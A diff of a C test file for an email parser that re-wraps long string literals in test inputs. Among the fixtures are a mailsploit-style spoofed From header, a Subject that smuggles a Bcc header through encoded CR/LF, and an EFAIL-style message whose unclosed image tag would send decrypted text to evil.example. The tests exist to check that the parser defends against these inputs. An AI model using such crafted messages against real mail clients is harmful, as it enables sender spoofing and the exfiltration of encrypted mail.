@@ -142,7 +142,8 @@ test_same_id_other_content_has_another_hash (void)
 {
   g_autoptr (CtgMail) one = parse ("From: a@b.example\nMessage-ID: <x@y>\nSubject: S one\n\nbody\n");
   g_autoptr (CtgMail) other = parse ("From: a@b.example\nMessage-ID: <x@y>\nSubject: T\n\nbody\n");
-  g_autoptr (CtgMail) copy = parse ("Received: by z\nFrom: a@b.example\nMessage-ID:\n <x@y>\nSubject: S\n one\n\nbody\n");
+  g_autoptr (CtgMail) copy = parse ("Received: by z\nFrom: a@b.example\nMessage-ID:\n <x@y>\nSubject: S\n"
+                                    " one\n\nbody\n");
 
   g_assert_cmpstr (one->message_id, ==, other->message_id);
   g_assert_cmpstr (one->content_hash, !=, other->content_hash);
@@ -164,7 +165,8 @@ static void
 test_leading_blank_line_is_stepped_over (void)
 {
   g_autoptr (CtgMail) blank = parse ("\n  \r\nFrom: a@b.example\nSubject: S\n\nbody\n");
-  g_autoptr (CtgMail) from_line = parse ("From a@b.example Tue Mar  3 10:00:00 2026\nFrom: a@b.example\nSubject: S\n\nbody\n");
+  g_autoptr (CtgMail) from_line = parse ("From a@b.example Tue Mar  3 10:00:00 2026\nFrom: a@b.example\n"
+                                         "Subject: S\n\nbody\n");
 
   g_assert_cmpstr (blank->subject, ==, "S");
   g_assert_cmpstr (blank->text, ==, "body\n");
@@ -229,7 +231,8 @@ test_nul_bytes_do_not_cut (void)
 static void
 test_unknown_charset_is_shown_at_best_effort (void)
 {
-  g_autoptr (CtgMail) mail = parse ("Subject: =?x-klingon?Q?caff=C3=A8?=\nContent-Type: text/plain; charset=x-klingon\n\n"
+  g_autoptr (CtgMail) mail = parse ("Subject: =?x-klingon?Q?caff=C3=A8?=\n"
+                                    "Content-Type: text/plain; charset=x-klingon\n\n"
                                     "perch\xe9\n");
 
   g_assert_cmpstr (mail->subject, ==, "caffè");
@@ -240,7 +243,8 @@ test_unknown_charset_is_shown_at_best_effort (void)
 static void
 test_split_character_joins_over_encoded_words (void)
 {
-  g_autoptr (CtgMail) mail = parse ("Subject: =?utf-8?B?0L/QvtC2?= =?utf-8?B?0YPQu9GD0LnRgdGC0LA=?=\n =?UTF-8?Q?_caff=C3?=\n"
+  g_autoptr (CtgMail) mail = parse ("Subject: =?utf-8?B?0L/QvtC2?= =?utf-8?B?0YPQu9GD0LnRgdGC0LA=?=\n"
+                                    " =?UTF-8?Q?_caff=C3?=\n"
                                     " =?utf-8?q?=A8?= !\n\n");
 
   g_assert_cmpstr (mail->subject, ==, "пожулуйста caffè !");
@@ -275,7 +279,8 @@ test_name_that_is_another_address_is_flagged (void)
 static void
 test_mailsploit_controls_are_removed (void)
 {
-  g_autoptr (CtgMail) mail = parse ("From: =?utf-8?b?cG90dXNAd2hpdGVob3VzZS5leGFtcGxl?= =?utf-8?Q?=00=0A?= <x@evil.example>\n"
+  g_autoptr (CtgMail) mail = parse ("From: =?utf-8?b?cG90dXNAd2hpdGVob3VzZS5leGFtcGxl?= =?utf-8?Q?=00=0A?= "
+                                    "<x@evil.example>\n"
                                     "Subject: =?utf-8?Q?a=00b=0D=0ABcc:_c=E2=80=AEd?=\n\n");
 
   g_assert_cmpstr (address_at (mail->from, 0)->name, ==, "potus@whitehouse.example");
@@ -302,7 +307,8 @@ static void
 test_html_only_is_shown_as_its_text (void)
 {
   g_autoptr (CtgMail) mail = parse ("Subject: S\nContent-Type: text/html; charset=iso-8859-1\n\n"
-                                    "<html><head><style>p{}</style></head><body><p>Perch\xe9</p><p>no?</body></html>\n");
+                                    "<html><head><style>p{}</style></head><body><p>Perch\xe9</p>"
+                                    "<p>no?</body></html>\n");
 
   g_assert_cmpstr (mail->text, ==, "Perché\n\nno?");
   g_assert_nonnull (strstr (mail->html, "Perché"));
@@ -332,8 +338,10 @@ test_multipart_without_parts_is_shown (void)
 static void
 test_unclosed_and_headless_parts_are_read (void)
 {
-  g_autoptr (CtgMail) mail = parse ("Subject: S\nContent-Type: multipart/mixed; boundary=\"a b\"\n\n--a b\n\nfirst\n"
-                                    "--a b  \nContent-Type: text/x-foo; name=f.txt\n--a b\nContent-Type: text/plain\n\nlast");
+  g_autoptr (CtgMail) mail = parse ("Subject: S\nContent-Type: multipart/mixed; boundary=\"a b\"\n\n--a b\n"
+                                    "\nfirst\n"
+                                    "--a b  \nContent-Type: text/x-foo; name=f.txt\n--a b\n"
+                                    "Content-Type: text/plain\n\nlast");
 
   g_assert_cmpstr (mail->text, ==, "first\nlast");
   g_assert_cmpuint (mail->attachments->len, ==, 1);
@@ -356,7 +364,8 @@ test_encrypted_parts_are_never_joined (void)
 {
   g_autoptr (CtgMail) mail = parse ("Subject: S\nContent-Type: multipart/mixed; boundary=b\n\n--b\n"
                                     "Content-Type: text/html\n\n<img src=\"http://evil.example/\n--b\n"
-                                    "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\n\nSECRET\n--b\n"
+                                    "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\n\n"
+                                    "SECRET\n--b\n"
                                     "Content-Type: text/html\n\n\">\n--b--\n");
 
   g_assert_null (strstr (mail->html, "SECRET"));
@@ -367,7 +376,8 @@ test_encrypted_parts_are_never_joined (void)
 static void
 test_missing_empty_line_starts_the_body (void)
 {
-  g_autoptr (CtgMail) mail = parse ("From: a@b.example\nSubject: S\nHello there, this is the body\nwhich goes on\n");
+  g_autoptr (CtgMail) mail = parse ("From: a@b.example\nSubject: S\nHello there, this is the body\n"
+                                    "which goes on\n");
 
   g_assert_cmpstr (mail->subject, ==, "S");
   g_assert_cmpstr (mail->text, ==, "Hello there, this is the body\nwhich goes on\n");
